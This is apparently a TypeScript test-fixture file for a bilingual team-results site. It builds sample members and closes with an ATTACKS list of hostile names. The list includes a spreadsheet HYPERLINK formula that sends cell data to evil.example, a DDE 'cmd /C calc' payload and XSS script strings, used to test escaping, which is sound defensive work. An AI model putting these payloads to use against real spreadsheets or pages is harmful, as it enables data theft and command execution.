// A team as somebody takes it away: with the words of the site in both languages.
import type { Locale } from '../../../../src/i18n/locales';
import { messagesOf } from '../../../../src/i18n/messages';
import { en, nl } from '../../../../src/i18n/messages/parts/teamFiles';
import type { TeamWords } from '../../../../src/islands/team/words';
import { encode } from '../../../../src/model/code';
import { read } from '../../../../src/model/scoring';
import type { Result } from '../../../../src/model/sheet';
import type { Member } from '../../../../src/stores/team';
import { result } from '../../../fixtures/sheets';
import { resultWords } from './documents';

export function teamWords(locale: Locale): TeamWords {
  const words = resultWords(locale);
  const paths = { ...words.paths, results: '', evidence: '', sources: '' };
  return { ...words, paths, team: messagesOf(locale).team };
}

export const teamFiles = (locale: Locale) => (locale === 'en' ? en : nl);

export const memberOf = (label: string, said: Result): Member => ({
  ...{ id: label, label, code: encode(said), result: said, reading: read(said.answers) },
});

export const ZOE = memberOf(
  'Zoë & Bo',
  result('34343 22122 3332? 3333-', {
    chair: 'customer-facing',
    day: 1056,
    ambition: { management: 3, brand: null, operations: 5, customer: 1 },
  }),
);

export const NAMELESS = memberOf('', result('11111 22222 ????? -----'));

/** A large team: everybody different, each with a name. */
export const many = (n: number): Member[] =>
  Array.from({ length: n }, (_, index) =>
    memberOf(
      `Medewerker ${index} van de klantenservice`,
      result('34343 22122 3332? 3333-', { ...ZOE.result, day: 1 + index }),
    ),
  );

/** What a spreadsheet may run, and what else may stand in a name. */
export const ATTACKS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(A1)',
  '+1',
  '＝1＋1',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '\u202Eesrever\u2066',
  'two\r\nlines\tand a tab',
  '"quoted";and,separated',
  "'apostrophe",
  'x'.repeat(10_000),
  '\u0000\uD800',
];
